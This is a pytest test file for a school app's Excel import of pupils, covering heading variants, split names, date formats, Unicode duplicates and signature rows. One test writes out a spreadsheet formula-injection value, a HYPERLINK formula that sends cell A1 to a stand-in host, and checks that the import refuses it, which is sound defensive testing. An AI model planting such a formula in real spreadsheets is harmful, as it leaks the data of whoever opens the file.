"""The people import with sheets as schools make them: headings in their own words, names split in two columns,
dates in every form Excel leaves them, classes Excel turned into dates, the same pupil twice."""

from __future__ import annotations

import io
import re
import unicodedata
from datetime import date, datetime
from typing import Any

from flask.testing import FlaskClient
from openpyxl import Workbook
from sqlalchemy import event

from app.extensions import db
from app.models import Unit, User
from tests.conftest import AuthActions

from ..factories import UserFactory
from .people_helpers import school_coordinator
from .xlsx_helpers import workbook_bytes

NOTHING_IMPORTED = "Chưa có dữ liệu nào được nhập"
HEAD: list[Any] = ["STT", "Họ và tên", "Lớp"]


def _import(client: FlaskClient, unit: Unit | int, data: bytes) -> str:
    unit_id = unit if isinstance(unit, int) else unit.id
    response = client.post(
        "/people/import", data={"unit": unit_id, "role": "student", "file": (io.BytesIO(data), "hs.xlsx")}
    )
    assert response.status_code == 200
    return response.get_data(as_text=True)


def _row_errors(page: str) -> dict[int, str]:
    return {int(n): text for n, text in re.findall(r"<td>(\d+)</td>\s*<td>(.*?)</td>", page, re.S)}


def _sheet(rows: list[list[Any]], merges: tuple[str, ...] = ()) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    for ref in merges:
        sheet.merge_cells(ref)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def _names(unit: Unit) -> dict[str, User]:
    return {u.full_name: u for u in db.session.query(User).filter_by(unit_id=unit.id) if u.username != "dp"}


def test_a_class_excel_turned_into_a_date_is_refused_not_stored_as_a_date(
    client: FlaskClient, auth: AuthActions
) -> None:
    """Typed 6/1 (grade 6, class 1), Excel keeps 6 January: the class would have been stored as
    '2026-01-06 00:00:00'."""
    coordinator = school_coordinator()
    db.session.commit()
    auth.login("dp")
    page = _import(
        client,
        coordinator.unit,
        workbook_bytes(
            [[1, "Nguyễn Văn An", "02/09/2013", "6/2", None], [2, "Lê Thị Hoa", None, datetime(2026, 1, 6)]]
        ),
    )
    assert "Lớp" in _row_errors(page)[3] and "06/01/2026" in _row_errors(page)[3]
    assert list(_names(coordinator.unit)) == []


def test_a_name_split_in_two_columns_is_imported_whole(client: FlaskClient, auth: AuthActions) -> None:
    coordinator = school_coordinator()
    db.session.commit()
    auth.login("dp")
    # "Họ và tên" merged over "Họ đệm" and "Tên", and the column numbers of an official form under them
    merged = _sheet(
        [
            ["DANH SÁCH HỌC SINH DỰ THI"],
            ["STT", "Họ và tên", None, "Ngày sinh", "Lớp"],
            [None, "Họ đệm", "Tên", None, None],
            ["(1)", "(2)", "(3)", "(4)", "(5)"],
            [1, "Nguyễn Văn", "An", "02/09/2013", "6A"],
            [2, "Trần Thị Thu", "Hà", "03/10/2013", "6A"],
        ],
        merges=("A1:E1", "B2:C2", "A2:A3", "D2:D3", "E2:E3"),
    )
    page = _import(client, coordinator.unit, merged)
    assert NOTHING_IMPORTED not in page
    assert set(_names(coordinator.unit)) == {"Nguyễn Văn An", "Trần Thị Thu Hà"}
    # two headings of their own, no merge
    split = _sheet([["STT", "Họ và tên đệm", "Tên", "Lớp"], [1, "Lê Quang", "Minh", "7B"]])
    _import(client, coordinator.unit, split)
    assert _names(coordinator.unit)["Lê Quang Minh"].class_name == "7B"


def test_headings_in_the_words_schools_use_are_recognised(client: FlaskClient, auth: AuthActions) -> None:
    coordinator = school_coordinator()
    db.session.commit()
    auth.login("dp")
    for n, header in enumerate(
        [
            ["STT", "Họ và tên học sinh", "Ngày, tháng, năm sinh", "Lớp học", "Địa chỉ email"],
            ["stt", " HO TEN HS ", "NGAY THANG NAM SINH", "LOP", "Thư điện tử"],
            ["STT", "Họ và tên giáo viên", "Sinh ngày", "Lớp", "E-mail"],
        ]
    ):
        name = ["Phạm Minh Châu", "Đỗ Văn Bình", "Vũ Thị Lan"][n]
        page = _import(client, coordinator.unit, workbook_bytes([[1, name, "02/09/2013", "6A", None]], header=header))
        assert "Không tìm thấy dòng tiêu đề" not in page
        assert _names(coordinator.unit)[name].date_of_birth == date(2013, 9, 2)


def test_dates_of_birth_in_every_form_excel_leaves_them(client: FlaskClient, auth: AuthActions) -> None:
    coordinator = school_coordinator()
    db.session.commit()
    auth.login("dp")
    rows = [
        [1, "Nguyễn Văn An", 41519, "6A", None],  # a date cell that lost its format: days since 1899-12-30
        [2, "Trần Thị Bình", "2/9/13", "6A", None],
        [3, "Lê Văn Cường", "5-3-75", None, None],
        [4, "Phạm Thị Dung", "2.9.2013", "6A", None],
        [5, "Hoàng Văn Em", "2013-09-02", "6A", None],
    ]
    page = _import(client, coordinator.unit, workbook_bytes(rows))
    assert _row_errors(page).get(2) != "Ngày sinh 41519 không đúng định dạng ngày (dd/mm/yyyy)."
    people = _names(coordinator.unit)
    assert people["Nguyễn Văn An"].date_of_birth == date(2013, 9, 2)
    assert people["Trần Thị Bình"].date_of_birth == date(2013, 9, 2)
    assert people["Lê Văn Cường"].date_of_birth == date(1975, 3, 5)
    assert people["Phạm Thị Dung"].date_of_birth == people["Hoàng Văn Em"].date_of_birth == date(2013, 9, 2)


def test_a_year_alone_is_not_taken_for_a_day_in_1905(client: FlaskClient, auth: AuthActions) -> None:
    coordinator = school_coordinator()
    db.session.commit()
    auth.login("dp")
    page = _import(client, coordinator.unit, workbook_bytes([[1, "Nguyễn Văn An", 2013, "6A", None]]))
    assert _row_errors(page) == {2: "Ngày sinh 2013 không đúng định dạng ngày (dd/mm/yyyy)."}
    assert _names(coordinator.unit) == {}


def test_the_same_pupil_typed_twice_is_one_person(client: FlaskClient, auth: AuthActions) -> None:
    """Composed (NFC) and decomposed (NFD, as Unikey or a Mac may type it) are the same name; nothing is imported and
    the second row names the first."""
    coordinator = school_coordinator()
    db.session.commit()
    auth.login("dp")
    decomposed = unicodedata.normalize("NFD", "Nguyễn Văn An")
    assert decomposed != "Nguyễn Văn An"
    rows = [
        [1, "Nguyễn Văn An", "05/09/2013", "6A", None],
        [2, "Lê Thị Hoa", "01/01/2013", "6A", None],
        [3, f"  {decomposed.upper()}\u200b", "05/09/2013", "6A", None],
    ]
    page = _import(client, coordinator.unit, workbook_bytes(rows))
    assert list(_row_errors(page)) == [4] and "2" in _row_errors(page)[4]
    assert _names(coordinator.unit) == {}
    # alone, the decomposed name is stored composed, without the zero-width space
    _import(client, coordinator.unit, workbook_bytes([[1, decomposed + "\u200b", "05/09/2013", "6A", None]]))
    assert list(_names(coordinator.unit)) == ["Nguyễn Văn An"]


def test_a_name_that_shows_nothing_is_no_name(client: FlaskClient, auth: AuthActions) -> None:
    """A Hangul filler (a letter fonts draw blank) or a lone variation selector outlives the removal of format
    characters: such a row was refused as a name in an old font or one without letters, which sends the coordinator
    converting a font; it is a row without a name."""
    coordinator = school_coordinator()
    db.session.commit()
    auth.login("dp")
    rows = [
        [1, "Lê Thị Hoa", "01/01/2013", "6A", None],
        [2, "\u3164\u3164", "05/09/2013", "6A", None],
        [3, "\ufe0f \u200b", "05/09/2013", "6A", None],
    ]
    page = _import(client, coordinator.unit, workbook_bytes(rows))
    assert _row_errors(page) == {3: "Vui lòng nhập họ và tên.", 4: "Vui lòng nhập họ và tên."}
    assert _names(coordinator.unit) == {}


def test_importing_a_list_again_creates_nobody_twice(client: FlaskClient, auth: AuthActions) -> None:
    coordinator = school_coordinator()
    UserFactory(full_name="Nguyễn Văn An", username="an.nguyen", unit=coordinator.unit, date_of_birth=date(2013, 9, 5))
    db.session.commit()
    auth.login("dp")
    rows = [
        [1, "Nguyễn Văn An", "05/09/2013", "6A", None],
        [2, "Nguyễn Văn An", "15/04/2013", "6B", None],  # a namesake, told apart by the date of birth
    ]
    page = _import(client, coordinator.unit, workbook_bytes(rows))
    assert list(_row_errors(page)) == [2] and "an.nguyen" in _row_errors(page)[2]
    assert db.session.query(User).filter_by(full_name="Nguyễn Văn An").count() == 1
    _import(client, coordinator.unit, workbook_bytes(rows[1:]))
    assert db.session.query(User).filter_by(full_name="Nguyễn Văn An").count() == 2


def test_a_login_typed_on_a_later_row_is_not_made_for_an_earlier_one(client: FlaskClient, auth: AuthActions) -> None:
    coordinator = school_coordinator()
    db.session.commit()
    auth.login("dp")
    rows = [[1, "Nguyễn Văn An", "6A", None], [2, "Nguyễn Văn An", "7A", "annv"]]
    page = _import(client, coordinator.unit, workbook_bytes(rows, header=["STT", "Họ và tên", "Lớp", "Tên đăng nhập"]))
    assert NOTHING_IMPORTED not in page
    by_class = {u.class_name: u.username for u in db.session.query(User).filter_by(full_name="Nguyễn Văn An")}
    assert by_class == {"6A": "annv2", "7A": "annv"}


def test_a_name_a_spreadsheet_would_run_as_a_formula_is_refused(client: FlaskClient, auth: AuthActions) -> None:
    coordinator = school_coordinator()
    db.session.commit()
    auth.login("dp")
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["STT", "Họ và tên", "Lớp"])
    sheet.append([1, None, "6A"])
    sheet.append([2, None, "6A"])
    for cell, typed in ((sheet["B2"], '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")'), (sheet["B3"], "@SUM(1)")):
        cell.value = typed
        cell.data_type = "s"  # typed as text, as a pupil's name reaches a sheet that hoithi exported
    out = io.BytesIO()
    workbook.save(out)
    page = _import(client, coordinator.unit, out.getvalue())
    assert set(_row_errors(page)) == {2, 3} and "không bắt đầu bằng" in _row_errors(page)[2]
    assert _names(coordinator.unit) == {}


def test_a_pupil_who_happens_to_match_the_template_example_is_imported(client: FlaskClient, auth: AuthActions) -> None:
    """The template's example row is skipped only where the template has it, under the headings: a real Nguyễn Văn
    An born 02/09/2013 in 6A further down the list was silently left out."""
    coordinator = school_coordinator()
    db.session.commit()
    auth.login("dp")
    rows = [[1, "Lê Thị Hoa", "01/01/2013", "6A", None], [2, "Nguyễn Văn An", "02/09/2013", "6A", None]]
    page = _import(client, coordinator.unit, workbook_bytes(rows))
    assert NOTHING_IMPORTED not in page
    assert set(_names(coordinator.unit)) == {"Lê Thị Hoa", "Nguyễn Văn An"}


def test_the_unused_numbered_lines_of_a_form_are_not_people(client: FlaskClient, auth: AuthActions) -> None:
    """A class list form numbered 1 to 40 in advance, filled for two pupils: the other lines were refused, each
    “Full name is required”, and nobody was imported."""
    coordinator = school_coordinator()
    db.session.commit()
    auth.login("dp")
    rows: list[list[Any]] = [[1, "Lê Thị Hoa", "01/01/2013", "6A", None], [2, "Trần Văn Nam", None, "6A", None]]
    rows += [[n, None, None, None, None] for n in range(3, 41)]
    page = _import(client, coordinator.unit, workbook_bytes(rows))
    assert NOTHING_IMPORTED not in page
    assert set(_names(coordinator.unit)) == {"Lê Thị Hoa", "Trần Văn Nam"}


def test_the_signatures_under_an_official_list_are_not_people(client: FlaskClient, auth: AuthActions) -> None:
    """An official list ends with the place and date, "Người lập biểu" and "Hiệu trưởng" and their names; a list
    printed page by page repeats its headings. The signer was imported as a pupil named "NGƯỜI LẬP BIỂU", the
    teacher who made the list as another, and the repeated heading as a person named "Họ và tên"."""
    coordinator = school_coordinator()
    db.session.commit()
    auth.login("dp")
    rows: list[list[Any]] = [
        ["SỞ GIÁO DỤC VÀ ĐÀO TẠO", None, None, "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM"],
        ["DANH SÁCH HỌC SINH DỰ THI TIN HỌC TRẺ"],
        HEAD,
        [1, "Lê Thị Hoa", "6A"],
        HEAD,
        [2, "Trần Văn Nam", "7B"],
        [3, None, None],
        [None, None, None],
        [None, None, None, "Hải Dương, ngày 10 tháng 9 năm 2026"],
        [None, "NGƯỜI LẬP BIỂU", None, "HIỆU TRƯỞNG"],
        [None, "Nguyễn Thị Thu", None, "Phạm Văn Hùng"],
    ]
    page = _import(client, coordinator.unit, _sheet(rows, merges=("A2:D2",)))
    assert NOTHING_IMPORTED not in page
    assert set(_names(coordinator.unit)) == {"Lê Thị Hoa", "Trần Văn Nam"}


def test_an_eth_where_d_belongs_is_stored_as_d(client: FlaskClient, auth: AuthActions) -> None:
    """Ð (U+00D0) looks like Đ (U+0110): a name typed with it was stored so, and found by nobody searching "Đặng"."""
    coordinator = school_coordinator()
    db.session.commit()
    auth.login("dp")
    page = _import(client, coordinator.unit, workbook_bytes([[1, "\u00d0ặng Thị \u00f0ào", None, "6A", None]]))
    assert NOTHING_IMPORTED not in page
    assert [(u.full_name, u.username) for u in _names(coordinator.unit).values()] == [("Đặng Thị đào", "daodt")]
    assert "Đặng Thị đào" in client.get("/people/?q=Đặng").get_data(as_text=True)


def test_an_import_never_reads_every_login_of_the_province(client: FlaskClient, auth: AuthActions) -> None:
    """Logins made from names are checked against the accounts that begin the same way; every login of the
    database (hundreds of thousands in a province) was read into memory for each import."""
    coordinator = school_coordinator()
    UserFactory(username="annv")
    db.session.commit()
    auth.login("dp")
    statements: list[str] = []

    def note(_conn: object, _cursor: object, statement: str, *_: object) -> None:
        statements.append(" ".join(statement.split()))

    event.listen(db.engine, "before_cursor_execute", note)
    try:
        _import(client, coordinator.unit, workbook_bytes([[1, "Nguyễn Văn An", "05/09/2013", "6A", None]]))
    finally:
        event.remove(db.engine, "before_cursor_execute", note)
    reads = [s for s in statements if s.startswith("SELECT") and " FROM users" in s]
    assert reads and all(" WHERE " in s for s in reads)
    assert [u.username for u in _names(coordinator.unit).values()] == ["annv2"]
